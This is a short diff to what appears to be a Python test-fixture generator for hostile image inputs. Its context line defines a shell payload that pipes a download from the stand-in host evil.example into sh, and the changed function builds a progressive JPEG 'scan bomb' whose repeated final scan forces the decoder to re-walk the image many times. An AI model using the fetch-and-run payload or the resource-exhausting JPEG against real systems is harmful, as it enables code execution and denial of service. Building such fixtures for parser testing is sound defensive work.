@@ -315,8 +315,8 @@ SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
 def scan_bomb(size=(64, 48), *, repeats: int = 150) -> bytes:
     """A progressive JPEG whose last scan is repeated before the end: libjpeg only warns,
     and walks the whole picture once per repeat."""
-    smooth = Image.linear_gradient("L").resize(size).convert("RGB")
-    data = jpeg_photo(size, image=smooth, progressive=True)
+    # One flat colour: every refinement scan is a few bytes, yet walks the whole picture.
+    data = jpeg_photo(size, image=Image.new("RGB", size, (90, 140, 200)), progressive=True)
     last_scan = data[data.rindex(b"\xff\xda") : -2]
     return data[:-2] + last_scan * repeats + b"\xff\xd9"
 
